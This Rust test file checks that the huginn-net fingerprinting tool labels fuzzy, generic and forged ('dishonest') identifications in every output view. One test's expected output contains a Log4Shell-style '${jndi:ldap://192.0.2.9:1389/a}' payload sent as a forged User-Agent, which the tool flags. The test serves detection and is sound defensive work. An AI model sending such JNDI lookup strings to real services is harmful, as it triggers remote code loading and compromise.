//! What is inexact says so in every view, in the same words.

use std::process::Command;

use crate::captures;

fn run(args: &[&str]) -> String {
    let mut command = Command::new(env!("CARGO_BIN_EXE_huginn-net"));
    command.args(args).env_remove("CLICOLOR_FORCE").env_remove("COLUMNS");
    let output = command.output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn fuzzy_system_says_so_in_every_view() {
    // Linux with an initial TTL of 128.
    let capture = captures::path("stack-ttl-128.pcap").display().to_string();
    let views: [&[&str]; 7] = [
        &["pcap", "-q"],
        &["pcap", "-q", "-v"],
        &["hosts", "-q"],
        &["pcap", "-q", "--connections"],
        &["pcap", "-q", "--connections", "--format", "json"],
        &["fingerprints", "-q", "--top", "9"],
        &["report", "-o", "-"],
    ];
    for view in views {
        let text = run(&[view, &[&*capture]].concat());
        assert!(text.contains("Linux (fuzzy)"), "{view:?}: {text}");
    }
    assert!(run(&["pcap", &capture]).contains("\nsystems     Linux (2), Linux (fuzzy) (2)\n"));
    assert!(
        run(&["pcap", "-q", "--format", "json", &capture])
            .contains(r#""fuzzy":true,"fuzzy_reason":"initial_ttl","#)
    );
    for (signature, text) in [
        (
            "4:128:0:1460:mss*44,10:mss,sok,ts,nop,ws:df,id+:0",
            "Linux (fuzzy), 0 hops away; another initial TTL",
        ),
        (
            "4:128:0:1460:65535,8:mss,nop,ws,nop,nop,nop,nop:df,id+:0",
            "Windows 10 or 11, or Server 2016-2025 (fuzzy), 0 hops away; options overwritten with NOPs",
        ),
        (
            "4:64:0:1460:65535,9:mss,sok,ts,nop,ws:df:0",
            "Android 5 or newer (fuzzy), 0 hops away; quirks that the network changes",
        ),
    ] {
        let explained = run(&["explain", signature]);
        assert!(explained.contains(&format!("as SYN        {text}\n")), "{explained}");
    }
    let host = run(&["hosts", "-q", "--format", "json", &capture]);
    assert!(host.contains(r#""verdict":{"system":"Linux","fuzzy":true,"#), "{host}");
}

#[test]
fn generic_system_says_so_in_every_view() {
    // Linux with a window that no signature of a version has.
    let capture = captures::path("stack-small-window.pcap").display().to_string();
    let events: [&[&str]; 4] = [
        &["pcap", "-q"],
        &["pcap", "-q", "--connections"],
        &["pcap", "-q", "--connections", "--format", "json"],
        &["fingerprints", "-q", "--top", "9"],
    ];
    for view in events {
        let text = run(&[view, &[&*capture]].concat());
        assert!(text.contains("Linux (generic)"), "{view:?}: {text}");
    }
    assert!(run(&["pcap", &capture]).contains("\nsystems     Linux (generic)"));
    for view in [&["hosts", "-q"][..], &["report", "-o", "-"]] {
        let text = run(&[view, &[&*capture]].concat());
        assert!(text.contains("Linux (fuzzy)"), "{view:?}: {text}");
    }
    let node = captures::path("http-node.pcap").display().to_string();
    for view in [&["pcap", "-q"][..], &["hosts", "-q"], &["report", "-o", "-"]] {
        let text = run(&[view, &[&*node]].concat());
        assert!(text.contains("Node http (generic)"), "{view:?}: {text}");
    }
    let host = run(&["hosts", "-q", "--format", "json", &capture]);
    assert!(host.contains(r#""verdict":{"system":"Linux","fuzzy":true,"#), "{host}");
}

#[test]
fn implausible_distance_is_not_shown() {
    // One SYN has a TTL of 92: 36 hops below 128.
    let capture = captures::path("odd-syns.pcap").display().to_string();
    for view in [&["pcap", "-q"][..], &["pcap", "-q", "-v"], &["hosts", "-q"]] {
        let text = run(&[view, &[&*capture]].concat());
        let hops =
            |text: &str| text.contains("36 hops") || text.contains("126 hops") || text.contains(" 126 ");
        assert!(!hops(&text), "{view:?}: {text}");
    }
    assert!(run(&["pcap", "-q", &capture]).contains("31 hops"));
}

#[test]
fn text_that_contradicts_stands_beside_the_name() {
    let capture = captures::path("http-forged.pcap").display().to_string();
    let lines = run(&["pcap", &*capture]);
    for line in [
        r#"curl 7.43 or newer (dishonest) "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/12...", GET"#,
        r#"curl 7.43 or newer (custom User-Agent) "${jndi:ldap://192.0.2.9:1389/a}", GET"#,
        // The text has the name.
        r#"curl 7.43 or newer "curl/8.5.0 ${jndi:ldap://192.0.2.9:1389/a}", GET"#,
        "nginx or based on nginx (OpenResty, Tengine), 200 OK",
        "curl (dishonest) (1)",
    ] {
        assert!(lines.contains(line), "{line}: {lines}");
    }
    for view in [&["pcap", "-q", "-v"][..], &["hosts", "-q"], &["report", "-o", "-"]] {
        let text = run(&[view, &[&*capture]].concat());
        assert!(text.contains("curl/8.5.0 ${jndi:ldap://192.0.2.9:1389/a}"), "{view:?}: {text}");
    }
    let hosts = run(&["hosts", "-q", &captures::path("http-imitation.pcap").display().to_string()]);
    assert!(hosts.contains("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleW..."), "{hosts}");
}

#[test]
fn header_of_another_product_says_so_in_every_view() {
    let capture = captures::path("http-imitation.pcap").display().to_string();
    let views: [&[&str]; 4] =
        [&["pcap", "-q"], &["pcap", "-q", "-v"], &["hosts", "-q"], &["report", "-o", "-"]];
    for view in views {
        let text = run(&[view, &[&*capture]].concat());
        assert!(text.contains("Firefox 116 or newer (dishonest)"), "{view:?}: {text}");
    }
}
